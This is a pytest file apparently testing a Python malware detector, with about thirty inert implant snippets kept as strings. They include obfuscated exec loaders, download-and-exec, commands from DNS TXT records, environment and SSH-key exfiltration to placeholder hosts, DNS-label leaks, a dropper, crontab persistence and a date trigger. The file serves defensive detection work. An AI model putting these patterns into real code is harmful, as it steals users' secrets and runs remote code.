# ruff: noqa: E501 - snippets are cut at their own line ends
"""Inert implants in Python, each in another style: every one must show what it is.

Never run: only parsed. What is asserted is the combination or the flow that a reader would name, not
the words it was written with.
"""

from __future__ import annotations

import textwrap

import pytest

from doorward.inspect.probes.python import analyse_python_source

IMPLANTS = {
    "classic loader: base64, zlib, exec": (
        """
        import base64, zlib
        exec(zlib.decompress(base64.b64decode(b'eJwrKEpNBQADLQFT')))
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "keyed xor in a helper, three steps apart": (
        """
        from itertools import cycle
        TABLE = bytes.fromhex("0a1b2c3d4e5f")
        def shift(data, key):
            return bytes(a ^ b for a, b in zip(data, cycle(key)))
        def prepare():
            return shift(TABLE, b"k3y")
        def start():
            program = prepare()
            code = compile(program, "<frozen>", "exec")
            exec(code, {})
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "subtraction cipher in a loop with append": (
        """
        def unfold(numbers):
            out = []
            for index, number in enumerate(numbers):
                out.append((number - index * 7) % 256)
            return bytes(out).decode()
        def hook():
            eval(unfold([12, 44, 99, 120]))
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "characters from numbers": (
        """
        words = [112, 114, 105, 110, 116]
        exec("".join(map(chr, words)))
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "attribute state in a class": (
        """
        import binascii
        class Cache:
            def __init__(self):
                self.entry = binascii.unhexlify("7072696e74")
            def refresh(self):
                exec(self.entry)
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "marshalled function body": (
        """
        import marshal, types
        def attach(raw):
            return types.FunctionType(marshal.loads(raw), globals())()
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "text codec": (
        """
        import codecs
        def run():
            line = codecs.decode("cevag(1)", "rot13")
            exec(line)
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "pickle from the network": (
        """
        import pickle, socket
        def sync(host):
            link = socket.create_connection((host, 9))
            return pickle.loads(link.recv(4096))
        """,
        "script.dataflow network-to-unpickle",
    ),
    "download and exec": (
        """
        from urllib.request import urlopen as get
        def update():
            text = get("https://updates.example/next").read().decode()
            exec(text)
        """,
        "script.dataflow network-to-dynamic-code",
    ),
    "commands from a TXT record": (
        """
        import subprocess
        import dns.resolver
        def poll(zone):
            for answer in dns.resolver.resolve(zone, "TXT"):
                subprocess.run(answer.strings[0].decode(), shell=True)
        """,
        "script.dataflow dns-to-process",
    ),
    "environment sent whole": (
        """
        import json, os, urllib.request
        def report():
            body = json.dumps({name: value for name, value in os.environ.items()})
            urllib.request.urlopen(urllib.request.Request("https://stats.example", body.encode()))
        """,
        "script.dataflow secret-to-network",
    ),
    "environment, through a helper": (
        """
        import os, http.client
        def gather():
            return str(dict(os.environ))
        def push(text):
            link = http.client.HTTPSConnection("stats.example")
            link.request("POST", "/", text)
        def main():
            push(gather())
        """,
        "script.dataflow secret-to-network",
    ),
    "key files sent": (
        """
        import requests
        from pathlib import Path
        def backup():
            for path in (Path.home() / ".ssh").glob("id_*"):
                requests.post("https://backup.example", data=path.read_bytes())
        """,
        "script.combination credentials+network",
    ),
    "host name in a DNS label": (
        """
        import socket, base64
        def mark():
            label = base64.b32encode(socket.gethostname().encode()).decode().strip("=").lower()
            try:
                socket.gethostbyname(label + ".example.invalid")
            except OSError:
                pass
        """,
        "script.dataflow host-to-dns",
    ),
    "host data chunked over getaddrinfo": (
        """
        from socket import getaddrinfo
        import platform, getpass
        def ping():
            data = (platform.node() + "|" + getpass.getuser()).encode().hex()
            for start in range(0, len(data), 60):
                getaddrinfo(f"{start}.{data[start:start + 60]}.t.example", 80)
        """,
        "script.dataflow host-to-dns",
    ),
    "decoded address": (
        """
        import base64, socket
        def connect():
            where = base64.b64decode("aG9zdC5leGFtcGxl").decode()
            link = socket.socket()
            link.connect((where, 443))
        """,
        "script.dataflow decoded-to-network",
    ),
    "decoded command line": (
        """
        import subprocess, base64
        def tidy():
            subprocess.Popen(base64.b64decode(b"c2ggLWMgdHJ1ZQ==").decode().split())
        """,
        "script.dataflow decoded-to-process",
    ),
    "split names": (
        """
        module = __import__("sub" + "process")
        getattr(module, "Po" + "pen")(["true"])
        """,
        "script.concealment computed-import",
    ),
    "built-ins by subscript": (
        """
        def go(text):
            return globals()["__builtins__"].__dict__["".join(["e", "x", "ec"])](text)
        """,
        "script.capability dynamic-code",
    ),
    "object walk": (
        """
        def find():
            return ().__class__.__base__.__subclasses__()
        """,
        "script.concealment object-walk",
    ),
    "native memory": (
        """
        import ctypes, zlib
        def place(packed):
            code = zlib.decompress(packed)
            page = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
            ctypes.memmove(page, code, len(code))
        """,
        "script.dataflow decoded-to-native",
    ),
    "dropper": (
        """
        import os, stat, subprocess, urllib.request
        def fetch():
            data = urllib.request.urlopen("https://cdn.example/helper").read()
            path = "/tmp/.helper"
            with open(path, "wb") as out:
                out.write(data)
            os.chmod(path, 0o755)
            subprocess.Popen([path], start_new_session=True)
        """,
        "script.combination filesystem-write+make-executable+process",
    ),
    "persistence by crontab": (
        """
        import subprocess
        def stay(line):
            old = subprocess.check_output(["crontab", "-l"])
            with open("/etc/cron.d/updates", "w") as table:
                table.write(line)
        """,
        "script.combination filesystem-write+persistence",
    ),
    "sleeps until a date": (
        """
        import datetime, base64
        def wake():
            if datetime.datetime.now() > datetime.datetime(2027, 1, 5):
                exec(base64.b64decode("cGFzcw=="))
        """,
        "script.combination dynamic-code+time-trigger",
    ),
    "thread at import, errors swallowed": (
        """
        import threading, urllib.request
        def _work():
            try:
                urllib.request.urlopen("https://x.example")
            except Exception:
                pass
        threading.Thread(target=_work, daemon=True).start()
        """,
        "script.import-time network",
    ),
    "reads its own tail": (
        """
        import zlib
        def unpack():
            with open(__file__, "rb") as own:
                exec(zlib.decompress(own.read()[-900:]))
        """,
        "script.combination decode+self-read",
    ),
    "reversed literal": (
        """
        exec(")'!dlrow olleh'(tnirp"[::-1])
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "decoded module name": (
        """
        import importlib, base64
        def load():
            return importlib.import_module(base64.b64decode("c29ja2V0").decode())
        """,
        "script.dataflow decoded-to-import",
    ),
    "one big number": (
        """
        def body():
            number = 0x7072696e742831293b7072696e742832293b7072696e742833293b7072696e742834293b7072696e742835293b7072696e\
742836293b7072696e742837293b7072696e742838293b7072696e742839293b7072696e742831293b7072696e742831293b7072696e7428312\
93b7072696e742831293b
            exec(number.to_bytes(200, "big").lstrip(bytes(1)))
        """,
        "script.combination decode+dynamic-code",
    ),
}


@pytest.mark.parametrize("name", IMPLANTS)
def test_implant_shows(name: str) -> None:
    source, expected = IMPLANTS[name]
    shown = {f"{trait.kind} {trait.key}" for trait in analyse_python_source(textwrap.dedent(source))}
    assert expected in shown


@pytest.mark.parametrize("name", IMPLANTS)
def test_inert_guard_changes_nothing(name: str) -> None:
    source, expected = IMPLANTS[name]
    guarded = "if False:\n" + textwrap.indent(textwrap.dedent(source), "    ")
    shown = {f"{trait.kind} {trait.key}" for trait in analyse_python_source(guarded)}
    assert expected in shown
